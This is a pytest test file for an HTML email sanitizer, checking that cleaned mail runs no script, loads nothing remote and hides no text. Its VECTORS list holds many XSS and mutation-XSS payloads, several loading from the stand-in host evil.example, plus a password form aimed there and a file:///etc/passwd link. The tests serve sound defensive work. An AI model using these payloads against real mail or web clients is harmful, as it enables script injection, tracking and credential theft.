"""HTML from strangers: after cleaning nothing runs, nothing loads, and nothing is hidden."""

import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from bailiwick.mail.html import clean, read, to_text

INLINE = {"logo@example.org": "/api/v1/mail/mail-1/parts/1.2"}
PIXEL = "data:image/png;base64,iVBORw0KGgo="
TAGS = set(
    "a abbr address article b bdi bdo big blockquote br caption center cite code col colgroup dd "  # noqa: SIM905
    "del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img "
    "ins kbd li main mark nav ol p pre q s samp section small span strike strong sub summary sup "
    "table tbody td tfoot th thead time tr tt u ul var wbr".split()
)
ATTRIBUTES = set(
    "align alt bgcolor border cellpadding cellspacing class color colspan dir face height href "  # noqa: SIM905
    "lang nowrap rel rowspan size span src start style target title type valign width".split()
)
# From lists of what got past sanitizers, mutation XSS included.
VECTORS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'alt='",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>X</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><annotation-xml encoding='text/html'><style><img src onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><style><img src='</style><img src=x onerror=alert(1)//'></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<applet code=x archive=//evil.example/x.jar>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/api/v1/auth/logout'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='https://ok.example/' onclick=alert(1) ping=//evil.example download>x</a>",
    "<base href=//evil.example/><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example><link rel=dns-prefetch href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style><p>x",
    "<p style='background:url(//evil.example/x)'>x",
    "<p style='background:u\\72l(//evil.example/x)'>x",
    "<p style='background:url/**/(//evil.example/x)'>x",
    "<p style='color:red;background-image:image-set(\"//evil.example/x\" 1x)'>x",
    "<p style='width:expression(alert(1))'>x",
    "<p style='behavior:url(#x);-moz-binding:url(//evil.example)'>x",
    "<p style='list-style:url(//evil.example/x)'>x",
    "<p style='cursor:url(//evil.example/x),auto;content:url(//evil.example)'>x",
    '<p style=\'font-family:"x\\";background:url(//evil.example)"\'>x',
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x",
    "<img src=//evil.example/x.png>",
    "<img src=https://evil.example/x.png srcset='https://evil.example/y.png 2x'>",
    "<img src='HTTPS://evil.example/x.png'>",
    "<img src='\nhttps://evil.example/x.png'>",
    "<img src=/api/v1/users/me/avatar>",
    "<img src=cid:other@example.org>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,x'>",
    "<img lowsrc=//evil.example dynsrc=//evil.example longdesc=//evil.example usemap=#x>",
    "<image src=//evil.example/x.png>",
    "<picture><source srcset=//evil.example/x.png><img src=x></picture>",
    "<video poster=//evil.example/x.png src=//evil.example/x.mp4 autoplay></video>",
    "<audio src=//evil.example/x.mp3 autoplay></audio>",
    "<input type=image src=//evil.example/x.png>",
    "<form action=//evil.example><input name=password><button formaction=//evil.example>x</form>",
    "<body background=//evil.example/x.png onload=alert(1)>x</body>",
    "<table background=//evil.example/x.png><td background=//evil.example/y.png>x</table>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>",
    "<div id=app class=modal slot=x is=y data-x=y>x</div>",
    "<template><img src=x onerror=alert(1)></template>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte mso 9]><img src=//evil.example/x><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><p>x",
    "<p/onclick=alert(1)//<p>x",
    "<\x00script>alert(1)</script>",
    "\u2028<img src=x onerror=alert(1)>",
    "<a title='</a><img src=x onerror=alert(1)>'>x</a>",
    "<plaintext><script>alert(1)",
]


def check(page: str) -> list[tuple[str, dict[str, Any]]]:
    """What is left is on the list, and loads nothing; as a browser reads it, and once more."""
    found: list[tuple[str, dict[str, Any]]] = []
    body = LexborHTMLParser(page).body
    assert body is not None
    for node in body.traverse(include_text=False):
        if node.tag in ("body", "-comment"):
            continue
        given = node.attributes
        assert node.tag in TAGS, page
        assert set(given) <= ATTRIBUTES, page
        for name, value in given.items():
            safe(name, value or "")
        found.append((node.tag or "", given))
    assert "<!--" not in page
    return found


def safe(name: str, value: str) -> None:
    match name:
        case "href":
            assert re.match(r"(?i)(https?://|mailto:)\S+$", value), value
        case "src":
            assert value in INLINE.values() or value.startswith("data:image/png;base64,"), value
        case "style":
            assert "\\" not in value
            assert not re.search(r"url|expression|image|@|/\*|position|behavior|content", value)
        case "target":
            assert value == "_blank"
        case "class":
            assert value in ("remote-image", "")
        case _:
            pass


@pytest.mark.req("MAIL-05", "MAIL-07")
@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_runs_or_loads_after_cleaning(vector: str):
    for page in (vector, f"<p>before{vector}after", f"<table><tr><td>{vector}</td></tr></table>"):
        cleaned = clean(page, inline=INLINE)
        check(cleaned)
        check(clean(cleaned, inline=INLINE))


@pytest.mark.req("MAIL-05")
def test_what_is_harmless_stays():
    page = (
        '<h1 align="center">Hi</h1><p style="color: #aa0000; font-weight: bold">Red</p>'
        '<a href="https://ok.example/?a=b&amp;c">link</a><img src="cid:logo@example.org" alt="L">'
        f'<img src="{PIXEL}"><table border="1"><tr><td colspan="2">Cell</td></tr></table>'
    )
    cleaned = clean(page, inline=INLINE)
    found = check(cleaned)
    assert ("a", {
        "href": "https://ok.example/?a=b&c",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
    }) in found  # fmt: skip
    assert [given["src"] for tag, given in found if tag == "img"] == [*INLINE.values(), PIXEL]
    assert "font-weight: bold; color: #aa0000" in cleaned
    assert '<td colspan="2">' in cleaned


@pytest.mark.req("MAIL-05")
def test_remote_pictures_leave_a_mark_until_someone_wants_them():
    page = '<p>Hi <img src="https://shop.example/a.png" alt="Our <shop>"></p>'
    cleaned = clean(page)
    assert "shop.example" not in cleaned
    assert 'class="remote-image"' in cleaned
    assert "Our &lt;shop&gt;" in cleaned
    assert 'src="https://shop.example/a.png"' in clean(page, remote_images=True)
    counter = '<img src="https://shop.example/open.gif" width="1" height="1">'
    assert clean(counter) == "<div></div>"
    for other in ("/api/v1/users/me", "//shop.example/a.png", "javascript:alert(1)", "http:a"):
        assert "src=" not in clean(f'<img src="{other}">', remote_images=True)


HIDDEN = [
    "<p>seen</p><div style='display:none'>SECRET</div>",
    "<p>seen</p><div style='DISPLAY : None !important'>SECRET</div>",
    "<p>seen</p><div hidden>SECRET</div>",
    "<p>seen</p><div style='visibility:hidden'>SECRET</div>",
    "<p>seen</p><div style='opacity:0'>SECRET</div>",
    "<p>seen</p><div style='font-size:0'>SECRET</div>",
    "<p>seen</p><div style='font-size:1px'>SECRET</div>",
    "<p>seen</p><p style='font-size:.3em'><b style='font-size:30%'>SECRET</b></p>",
    "<p>seen</p><div style='max-height:0;overflow:hidden'>SECRET</div>",
    "<p>seen</p><div style='text-indent:-9999px'>SECRET</div>",
    "<p>seen</p><div style='color:#fff'>SECRET</div>",
    "<p>seen</p><div style='color:rgb(255, 255, 254)'>SECRET</div>",
    "<p>seen</p><font color=white>SECRET</font>",
    "<p>seen</p><div style='background:#123456'><b style='color:#123457'>SECRET</b></div>",
    "<body bgcolor=black text=white>seen<font color=#000000>SECRET</font></body>",
    "<p>seen</p><div style='color:#fff'><div color=black>SECRET</div></div>",
    "<p>seen</p><template>SECRET</template><title>SECRET</title><noscript>SECRET</noscript>",
    "<p>seen</p><!-- SECRET --><script>SECRET</script><style>SECRET</style>",
]


@pytest.mark.req("GATE-16", "MAIL-05")
@pytest.mark.parametrize("page", HIDDEN)
def test_neither_a_person_nor_an_agent_gets_what_is_hidden(page: str):
    assert to_text(page) == "seen"
    cleaned = clean(page)
    assert "SECRET" not in cleaned
    assert "seen" in cleaned


SEEN = [
    "<div style='font-size:0'><p style='font-size:12px'>seen</p></div>",
    "<table bgcolor=#000><tr><td style='color:#fff'>seen</td></tr></table>",
    "<body bgcolor=black text=white>seen</body>",
    "<div style='background:#000 url(x.png)'><p style='color:white'>seen</p></div>",
    "<style>.dark{background:#000}</style><p class=dark style='color:#fff'>seen</p>",
    "<div style='position:absolute;left:-9999px'>seen</div>",
    "<div style='color:transparent'>seen</div>",
    "<div style='color:hsl(0,0%,100%)'>seen</div>",
    "<div style='font:0/0 a'>seen</div>",
    "<div style='display:none;display:block'>seen</div>",
    "<div style='display:none !important;display:block'>seen</div>",
    "<div style='letter-spacing:-1em'>seen</div>",
    "<div style='font-size:0.001vw'>seen</div>",
    "<div style='display:none/**/'>seen</div>",
    "<div style='max-height:0'>seen</div>",
]


@pytest.mark.req("GATE-16", "MAIL-05")
@pytest.mark.parametrize("page", SEEN)
def test_what_an_agent_reads_is_shown_to_people_too(page: str):
    assert to_text(page) == "seen"
    cleaned = clean(page)
    assert to_text(cleaned) == "seen", "the cleaned page must not hide it either"
    assert not re.search("none|hsl|transparent|-1em|vw|0/0|absolute|url", cleaned)


@pytest.mark.req("MAIL-07")
@pytest.mark.parametrize("page", ["<div>" * 9_000, "<b><p>" * 9_000, f"<p {'a=b ' * 9_000}>"])
def test_a_page_without_end_is_shown_as_its_words(page: str):
    found = read(f"{page}seen")
    assert found.text == "seen"
    assert found.hidden, "nobody can say that nothing was"
    assert to_text(clean(f"{page}seen")) == "seen"


PIECES = [vector[: len(vector) // 2] for vector in VECTORS] + [
    vector[len(vector) // 2 :] for vector in VECTORS
]


@pytest.mark.req("MAIL-07")
@settings(max_examples=150)
@given(st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=10)), max_size=6))
def test_no_mixture_of_tricks_gets_through(pieces: list[str]):
    page = "".join(pieces)
    check(clean(page, inline=INLINE))
    to_text(page).encode()
